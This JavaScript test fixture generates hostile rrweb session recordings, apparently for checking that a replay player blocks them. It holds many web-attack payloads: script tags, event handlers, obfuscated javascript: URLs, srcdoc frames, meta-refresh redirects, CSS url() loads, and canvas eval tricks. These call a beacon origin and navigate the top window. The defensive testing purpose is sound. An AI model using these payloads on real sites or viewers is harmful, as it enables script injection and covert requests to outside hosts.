// Recordings that no browser of good will sends, in rrweb's format.

export const START = Date.UTC(2026, 10, 22, 12);

const element = (id, tagName, attributes = {}, ...childNodes) => ({ type: 2, id, tagName, attributes, childNodes });
const text = (id, textContent) => ({ type: 3, id, textContent });
const svg = (id, tagName, attributes = {}, ...childNodes) => ({ ...element(id, tagName, attributes, ...childNodes), isSVG: true });

/** What an attack does if it runs: leaves its name in every window that it reaches, and asks the beacon for it. */
export const attack = (beacon, name) =>
  `for (const w of [window, parent, top]) try { w.hacked = '${name}' } catch {} ` +
  `try { top.document.title = '${name}' } catch {} try { top.localStorage.hacked = '${name}' } catch {} ` +
  `try { new Image().src = '${beacon}/${name}' } catch {} try { fetch('${beacon}/${name}-fetch') } catch {} try { top.location = '${beacon}/${name}-top' } catch {}`;

/** The text by which a played recording is known. */
export const marker = (name) => `played ${name}`;

/**
 * Each with the name of its stream.
 *
 * @param {string} beacon an origin that nothing may be asked of
 * @param {{depth?: number}} [options] how deep the deepest page is
 * @returns {{name: string, events: object[]}[]}
 */
export function hostileRecordings(beacon, { depth = 400 } = {}) {
  const page = (name, { head = [], body = [], attributes = {} } = {}) => [
    { type: 4, timestamp: START, data: { href: 'https://shop.example/', width: 800, height: 600 } },
    {
      type: 2, timestamp: START + 1,
      data: {
        initialOffset: { top: 0, left: 0 },
        node: {
          type: 0, id: 1,
          childNodes: [
            { type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
            element(3, 'html', {}, element(4, 'head', {}, ...head), element(5, 'body', attributes, element(6, 'p', {}, text(7, marker(name))), ...body)),
          ],
        },
      },
    },
  ];
  const change = (at, data) => ({ type: 3, timestamp: START + at, data });
  const adds = (at, ...nodes) => change(at, { source: 0, texts: [], attributes: [], removes: [], adds: nodes.map((node) => ({ parentId: 5, nextId: null, node })) });
  const sets = (at, id, attributes) => change(at, { source: 0, texts: [], adds: [], removes: [], attributes: [{ id, attributes }] });
  const last = change(2_000, { source: 3, id: 1, x: 0, y: 0 });
  const all = {};
  /** A recording whose first picture has it, and one to which it is added. */
  const both = (name, ...nodes) => {
    all[name] = [...page(name, { body: nodes }), last];
    all[`${name}-added`] = [...page(`${name}-added`), adds(500, ...nodes), last];
  };
  const run = (name) => attack(beacon, name);
  const asked = (name) => `${beacon}/${name}`;

  both('script', element(10, 'script', {}, text(11, run('script'))), element(12, 'script', { src: asked('script-src') }), element(13, 'script', { type: 'module' }, text(14, run('script-module'))));
  both('handlers', element(10, 'img', { src: 'data:image/png;base64,broken', onerror: run('onerror') }), element(11, 'div', { onclick: run('onclick'), onmouseover: run('onmouseover'), onanimationstart: run('onanimation'), style: 'animation: x 1s' }), element(12, 'details', { open: '', ontoggle: run('ontoggle') }), element(13, 'input', { autofocus: '', onfocus: run('onfocus') }), element(14, 'style', {}, text(15, '@keyframes x { to { color: red } }')));
  both('handlers-in-svg', svg(10, 'svg', { onload: run('svg-onload') }, svg(11, 'animate', { onbegin: run('onbegin'), attributeName: 'x', dur: '1s' }), svg(12, 'set', { attributeName: 'href', to: `javascript:${run('svg-set')}` })));
  all['body-onload'] = [...page('body-onload', { attributes: { onload: run('body-onload'), onpageshow: run('onpageshow'), background: asked('body-background') } }), last];
  both('javascript-addresses', element(10, 'a', { href: `javascript:${run('a-href')}` }, text(11, 'a link')), element(12, 'iframe', { src: `javascript:${run('iframe-javascript')}` }), element(13, 'form', { action: `javascript:${run('form-javascript')}` }, element(14, 'button', { formaction: `java\tscript:${run('formaction')}` })), element(15, 'a', { href: ` \u0001javascript:${run('a-control')}` }));
  all['javascript-clicked'] = [...page('javascript-clicked', { body: [element(10, 'a', { href: `javascript:${run('clicked')}` }, text(11, 'a link'))] }), change(500, { source: 2, type: 2, id: 10, x: 5, y: 5 }), change(501, { source: 2, type: 5, id: 10, x: 5, y: 5 }), last];
  both('frames', element(10, 'iframe', { src: asked('iframe') }), element(11, 'iframe', { srcdoc: `<script>${run('srcdoc')}</script><img src="${asked('srcdoc-img')}">` }), element(12, 'frame', { src: asked('frame') }), element(13, 'object', { data: asked('object'), type: 'text/html' }), element(14, 'embed', { src: asked('embed') }), element(15, 'portal', { src: asked('portal') }), element(16, 'fencedframe', { src: asked('fencedframe') }), element(17, 'iframe', { rr_src: asked('rr-src'), sandbox: 'allow-scripts allow-top-navigation' }));
  all['frame-document'] = [
    ...page('frame-document', { body: [element(10, 'iframe', {})] }),
    change(500, { source: 0, texts: [], attributes: [], removes: [], isAttachIframe: true, adds: [{ parentId: 10, nextId: null, node: { type: 0, id: 20, childNodes: [{ ...element(21, 'html', {}, element(22, 'body', {}, element(23, 'script', {}, text(24, run('frame-document'))), element(25, 'img', { src: asked('frame-document-img') }))), rootId: 20 }] } }] }),
    last,
  ];
  all['meta'] = [...page('meta', { head: [element(10, 'meta', { 'http-equiv': 'refresh', content: `0;url=${asked('refresh')}` }), element(11, 'meta', { 'HTTP-EQUIV': 'Refresh', CONTENT: `0;url=${asked('refresh-capitals')}` }), element(12, 'base', { href: `${beacon}/base/`, target: '_top' }), element(13, 'meta', { 'http-equiv': 'Content-Security-Policy', content: 'script-src *' })], body: [element(14, 'img', { src: 'relative.png' })] }), last];
  all['links'] = [
    ...page('links', { head: ['stylesheet', 'preload', 'prefetch', 'prerender', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'manifest', 'import'].map((rel, index) => element(10 + index, 'link', { rel, href: asked(`link-${rel}`), as: 'image', crossorigin: '' })) }),
    last,
  ];
  both('media', element(10, 'img', { src: asked('img'), srcset: `${asked('srcset')} 1x`, rr_dataURL: asked('rr-data') }), element(11, 'video', { src: asked('video'), poster: asked('poster'), autoplay: '' }, element(12, 'source', { src: asked('source') }), element(13, 'track', { src: asked('track'), default: '' })), element(14, 'audio', { src: asked('audio'), autoplay: '' }), element(15, 'input', { type: 'image', src: asked('input-image') }), element(16, 'picture', {}, element(17, 'source', { srcset: asked('picture') }), element(18, 'img', { src: asked('picture-img') })), element(19, 'canvas', { rr_dataURL: asked('canvas') }));
  const sheet = `@import url(${asked('import')}); @import "${asked('import-text')}"; @font-face { font-family: f; src: url(${asked('font')}) } p { font-family: f; background: url("${asked('css-url')}"); border-image: url(${asked('border')}) 1; cursor: url(${asked('cursor')}), auto; mask: url(${asked('mask')}); filter: url(${asked('filter')}#f); list-style: url(${asked('list')}); content: url(${asked('content')}); background-image: image-set("${asked('image-set')}" 1x), u\\72l(${asked('escaped')}) }`;
  both('styles', element(10, 'style', {}, text(11, sheet)), element(12, 'link', { rel: 'stylesheet', _cssText: sheet }), element(13, 'div', { style: `background: url(${asked('inline')})` }, text(14, 'styled')));
  all['style-changes'] = [
    ...page('style-changes', { head: [element(10, 'style', {}, text(11, 'p{color:red}'))] }),
    change(300, { source: 8, id: 10, adds: [{ rule: `p { background: url(${asked('rule')}) }`, index: 0 }] }),
    change(400, { source: 13, id: 10, index: [0], set: { property: 'background-image', value: `url(${asked('declaration')})`, priority: '' } }),
    change(500, { source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: `p { background: url(${asked('adopted')}) }`, index: 0 }] }] }),
    change(600, { source: 8, styleId: 1, replaceSync: `p { background: url(${asked('replaced')}) }` }),
    change(700, { source: 0, adds: [], removes: [], attributes: [], texts: [{ id: 11, value: sheet }] }),
    change(800, { source: 10, family: 'f', fontSource: `url(${asked('font-event')})`, buffer: false, descriptors: {} }),
    sets(900, 6, { style: { 'background-image': `url(${asked('style-object')})`, mask: [`url(${asked('style-list')})`, 'important'] } }),
    last,
  ];
  both('svg', svg(10, 'svg', { xmlns: 'http://www.w3.org/2000/svg' }, svg(11, 'script', {}, text(12, run('svg-script'))), svg(13, 'use', { href: `${asked('use')}#a`, 'xlink:href': `data:image/svg+xml,<svg id="a" onload="${run('use-data')}"/>#a` }), svg(14, 'image', { href: asked('svg-image'), 'xlink:href': asked('svg-xlink') }), svg(15, 'feImage', { href: asked('fe-image') }), svg(16, 'a', { 'xlink:href': `javascript:${run('svg-a')}` }), svg(17, 'foreignObject', { width: '9', height: '9' }, element(18, 'iframe', { srcdoc: `<script>${run('foreign-srcdoc')}</script>` }), element(19, 'img', { src: 'x', onerror: run('foreign-onerror') })), svg(20, 'rect', { fill: `url(${asked('fill')}#x)` })));
  all['svg-data'] = [...page('svg-data', { body: [element(10, 'img', { src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${run('svg-data')}</script><image href="${asked('svg-data-image')}"/></svg>`)}` })] }), last];
  all['changed-attributes'] = [
    ...page('changed-attributes', { body: [element(10, 'img', {}), element(11, 'iframe', {}), element(12, 'a', {}, text(13, 'a')), element(14, 'form', {}), element(15, 'script', {}), element(16, 'link', { rel: 'stylesheet' })] }),
    sets(300, 10, { src: asked('set-src'), onerror: run('set-onerror'), srcset: asked('set-srcset') }),
    sets(310, 11, { src: asked('set-frame'), srcdoc: `<script>${run('set-srcdoc')}</script>` }),
    sets(320, 12, { href: `javascript:${run('set-href')}`, ping: asked('set-ping') }),
    sets(330, 14, { action: asked('set-action') }),
    sets(340, 15, { src: asked('set-script') }),
    sets(350, 16, { href: asked('set-link') }),
    sets(360, 5, { onclick: run('set-onclick'), onpointermove: run('set-onpointermove') }),
    change(400, { source: 0, adds: [], removes: [], attributes: [], texts: [{ id: 13, value: `<script>${run('text')}</script>` }] }),
    last,
  ];
  all['canvas'] = [
    ...page('canvas', { body: [element(10, 'canvas', { width: '10', height: '10' })] }),
    change(300, { source: 9, id: 10, type: 0, commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: asked('canvas-image') }, 0, 0] }, { property: 'fillStyle', args: ['red'], setter: true }] }),
    change(310, { source: 9, id: 10, type: 0, property: 'constructor', args: [{ rr_type: 'Function', args: [run('canvas-function')] }] }),
    change(320, { source: 9, id: 10, type: 0, commands: [{ property: 'drawImage', args: [{ rr_type: 'eval', args: [run('canvas-eval')] }] }] }),
    last,
  ];
  all['other-kinds'] = [
    ...page('other-kinds'),
    { type: 5, timestamp: START + 300, data: { tag: 'eval', payload: { code: run('custom') } } },
    { type: 6, timestamp: START + 310, data: { plugin: 'rrweb/console@1', payload: { level: 'log', trace: [], payload: [run('plugin')] } } },
    { type: 99, timestamp: START + 320, data: { run: run('kind') } },
    change(330, { source: 'constructor', id: 5 }),
    change(340, { source: 2, type: 'constructor', id: 5, x: 1, y: 1 }),
    change(350, { source: 7, id: 5, type: 0, currentTime: 1e308 }),
    change(360, { source: 16, define: { name: 'x-evil' } }),
    last,
  ];
  all['sizes'] = [
    { type: 4, timestamp: START, data: { href: 'x', width: 1e15, height: -1 } },
    ...page('sizes', { body: [element(10, 'canvas', { width: '999999999', height: '999999999' }), element(11, 'img', { rr_width: '99999999999px', rr_height: '99999999999px' }), element(12, 'table', {}, element(13, 'td', { colspan: '999999999', rowspan: '999999999' }))] }),
    change(300, { source: 4, width: Number.MAX_VALUE, height: 1e300 }),
    change(310, { source: 3, id: 1, x: 1e300, y: -1e300 }),
    change(320, { source: 4, width: 800, height: 600 }),
    last,
  ];
  all['no-tree'] = [
    ...page('no-tree'),
    change(300, { source: 0, texts: [{ id: 404, value: 'x' }], attributes: [{ id: 404, attributes: { class: 'x' } }], removes: [{ id: 404, parentId: 405 }, { id: 3, parentId: 5 }], adds: [{ parentId: 404, nextId: null, node: element(50, 'p') }] }),
    change(400, { source: 0, texts: [], attributes: [], removes: [], adds: [{ parentId: 5, nextId: 52, node: element(51, 'p') }, { parentId: 5, nextId: 51, node: element(52, 'p') }] }),
    change(500, { source: 0, texts: [], attributes: [], removes: [], adds: [{ parentId: 54, nextId: null, node: element(53, 'p') }, { parentId: 53, nextId: null, node: element(54, 'p') }, { parentId: 55, nextId: null, node: element(55, 'p') }] }),
    change(600, { source: 0, texts: [], attributes: [], removes: [], adds: [{ parentId: 6, nextId: null, node: element(5, 'div', {}, element(6, 'p')) }, { parentId: 1, nextId: null, node: element(1, 'html') }] }),
    change(700, { source: 2, type: 2, id: 404, x: 1, y: 1 }),
    change(800, { source: 14, ranges: [{ start: 404, startOffset: 1e9, end: 5, endOffset: -1 }] }),
    change(900, { source: 1, positions: [{ x: 1, y: 1, id: 404, timeOffset: -1e12 }] }),
    change(1_000, { source: 0, texts: 'x', attributes: null, removes: {}, adds: 7 }),
    last,
  ];
  let deep = element(1_000, 'img', { src: 'x', onerror: run('deep') });
  for (let id = 1_001; id < 1_001 + depth; id++) deep = element(id, 'div', {}, deep);
  all['deep'] = [...page('deep', { body: [deep] }), last];
  return Object.entries(all).map(([name, events]) => ({ name, events }));
}
